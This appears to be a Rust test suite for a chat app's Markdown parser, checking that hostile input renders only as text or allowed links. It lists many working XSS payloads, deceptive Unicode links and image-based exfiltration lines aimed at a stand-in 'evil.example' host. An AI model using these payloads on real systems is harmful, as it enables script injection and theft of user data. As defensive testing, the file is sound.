//! Hostile text: no address but the four kinds, no markup but text, in every state of the
//! stream.

use fluxchat_markup::{
    Block, Inline, LinkKind, StreamParser, apply, link_target, parse, plain_text, title_from,
};

use crate::support::{cuts, each_inline};

const PAYLOADS: &[&str] = &[
    // Scripts and handlers as raw HTML.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/?leak)}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<img srcset=\"https://evil.example/a 1x, https://evil.example/b 2x\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p><b><script\n>alert(1)</script\n></b>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    // Addresses in Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](smb://evil.example/share)",
    "[x](\\\\evil.example\\share)",
    "[x](//evil.example)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:https://a.example)",
    "[x](ms-msdt:/id PCWDiagnostic)",
    "[x](ssh://-oProxyCommand=calc/x)",
    "[x](tauri://localhost/)",
    "[x](fluxchat://mcp/install?command=calc)",
    "[x](https://good.example@evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](feed:javascript:alert(1))",
    "[x](mailto:a@b.example?attach=/etc/passwd)",
    "[x](mailto:a@b.example%0d%0abcc:c@d.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: <javascript:alert(1)>\n\n[r]",
    "[r]: javascript:alert(1) \"title\"\n\n![r] [r][] [x][r]",
    "[x](javascript:alert(1) \"title\")",
    "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[a](<https://a.example/\" onclick=\"alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x](https://a.example)<img src=x onerror=alert(1)>",
    // Images, the quiet way out.
    "![leak](https://evil.example/?q=SECRET)",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![\" onerror=\"alert(1)](x)",
    "![x](https://evil.example/\"onerror=\"alert(1))",
    "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
    "![<script>alert(1)</script>](https://evil.example)",
    // Other places.
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\" _self\n```",
    "```mermaid\n%%{init: {\"themeCSS\": \"*{background:url(https://evil.example/?leak)}\"}}%%\ngraph TD; A-->B\n```",
    "```mermaid\n---\ntitle: <script>alert(1)</script>\n---\ngraph TD; A-->B\n```",
    "```mermaid\ngraph TD; A-->B\n```<script>alert(1)</script>\n",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\unicode{<script>alert(1)</script>}$$",
    "\\(\\url{javascript:alert(1)}\\)",
    "\\[\\class{x onload=alert(1)}{y}\\]",
    "[x](java\\(script:alert\\(1\\))",
    "javascript:alert(1)//https://a.example",
    "https://a.example/\"><script>alert(1)</script>",
    "www.a.example\"onmouseover=alert(1)",
    "http://javascript:alert(1)@a.example",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "{@html '<img src=x onerror=alert(1)>'}",
    // Letters that deceive.
    "[safe](https://xn--80ak6aa92e.com/)",
    "[safe](https://аррӏе.com/)",
    "[https://good.example](https://evil.example)",
    "\u{202e}txt.exe [x](https://evil.example/\u{202e}gpj.exe)",
    "\u{e0068}\u{e0069}\u{e007f}",
    "a\u{200b}b\u{200d}c\u{2060}d\u{feff}e",
];

const SCHEMES: [&str; 4] = ["https://", "http://", "mailto:", "help:"];

fn check(blocks: &[Block], source: &str) {
    each_inline(blocks, &mut |inline| match inline {
        Inline::Link {
            id,
            kind,
            host,
            display,
            ..
        } => {
            if *kind == LinkKind::Blocked {
                assert_eq!((host.as_str(), display.as_str()), ("", ""), "{source}");
            } else {
                assert!(
                    SCHEMES.iter().any(|s| display.starts_with(s)),
                    "{display} in {source}"
                );
                assert!(
                    !host.is_empty() && !host.contains(['<', '"', ' ', '@'])
                        || *kind == LinkKind::Mailto
                );
            }
            let _ = id;
        }
        Inline::Image { host, .. } => assert!(!host.contains(['<', '"', ' ', '/']), "{host}"),
        _ => {}
    });
    let json = serde_json::to_value(blocks).unwrap();
    check_json(&json, source);
}

/// Every object of the tree has a known type, and no text holds a deceiving character.
fn check_json(value: &serde_json::Value, source: &str) {
    const TYPES: [&str; 32] = [
        "paragraph",
        "heading",
        "code_block",
        "list",
        "quote",
        "table",
        "math",
        "rule",
        "footnote_definition",
        "html_source",
        "text",
        "strong",
        "emphasis",
        "strikethrough",
        "code",
        "link",
        "image",
        "footnote_ref",
        "hard_break",
        "soft_break",
        "element",
        "blocks",
        "inlines",
        "items",
        "lines",
        "rows",
        "cells",
        "append_text",
        "push_block",
        "replace_tail",
        "replace_range",
        "update_block",
    ];
    match value {
        serde_json::Value::Object(fields) => {
            if let Some(kind) = fields.get("type") {
                assert!(
                    TYPES.contains(&kind.as_str().unwrap()),
                    "{kind} in {source}"
                );
            }
            if let Some(name) = fields.get("name").and_then(|n| n.as_str()) {
                assert!(
                    name.starts_with('m') || fields.contains_key("value"),
                    "{name} in {source}"
                );
                assert!(
                    !name.starts_with("on") && !matches!(name, "href" | "src" | "style" | "id")
                );
            }
            for key in fields.keys() {
                assert!(
                    !matches!(
                        key.as_str(),
                        "href" | "src" | "url" | "html" | "style" | "title"
                    ),
                    "{key}"
                );
            }
            fields.values().for_each(|v| check_json(v, source));
        }
        serde_json::Value::Array(values) => values.iter().for_each(|v| check_json(v, source)),
        serde_json::Value::String(text) => {
            let hidden = text.chars().any(|c| {
                matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}'
                    | '\u{200b}' | '\u{feff}' | '\u{2060}')
                    || (c.is_control() && c != '\n' && c != '\t')
            });
            assert!(!hidden, "{text:?} in {source:?}");
        }
        _ => {}
    }
}

#[test]
fn no_payload_becomes_more_than_text_and_honest_links() {
    assert!(PAYLOADS.len() >= 80);
    for payload in PAYLOADS {
        for frame in [
            "{}",
            "a {} b",
            "- {}",
            "> {}",
            "| {} |\n|---|\n",
            "**{}**",
            "[{}](https://a.example)",
            "<div>\n{}",
        ] {
            let markdown = frame.replace("{}", payload);
            check(&parse(&markdown).blocks, &markdown);
        }
        for id in 0..4 {
            if let Some(target) = link_target(payload, id) {
                assert!(
                    SCHEMES.iter().any(|s| target.url.starts_with(s)),
                    "{}",
                    target.url
                );
                assert!(
                    !target.url.contains(['"', '<', '>', ' ', '\n']),
                    "{}",
                    target.url
                );
            }
        }
        let _ = (plain_text(payload, 100), title_from(payload));
    }
}

#[test]
fn every_state_of_every_cut_is_as_safe() {
    for payload in PAYLOADS {
        for cut in cuts(payload) {
            let mut stream = StreamParser::new();
            let mut blocks = Vec::new();
            let (a, b) = payload.split_at(cut);
            for ops in [stream.push(a), stream.push(b), stream.finish()] {
                for op in &ops {
                    check_json(&serde_json::to_value(op).unwrap(), payload);
                    assert!(apply(&mut blocks, op));
                }
                check(&blocks, payload);
            }
            assert_eq!(blocks, parse(payload).blocks, "{payload:?} at {cut}");
        }
    }
}

#[test]
fn letter_by_letter_is_as_safe() {
    for payload in PAYLOADS {
        let mut stream = StreamParser::new();
        for letter in crate::support::letters(payload) {
            stream.push(letter);
            check(stream.blocks(), payload);
        }
    }
}

#[test]
fn script_addresses_are_never_links() {
    for payload in PAYLOADS
        .iter()
        .filter(|p| p.contains("script:") || p.contains("data:"))
    {
        each_inline(&parse(payload).blocks, &mut |inline| {
            if let Inline::Link { display, .. } = inline {
                assert!(
                    !display.to_lowercase().starts_with("javascript"),
                    "{payload}"
                );
                assert!(!display.to_lowercase().starts_with("data"), "{payload}");
            }
        });
    }
}
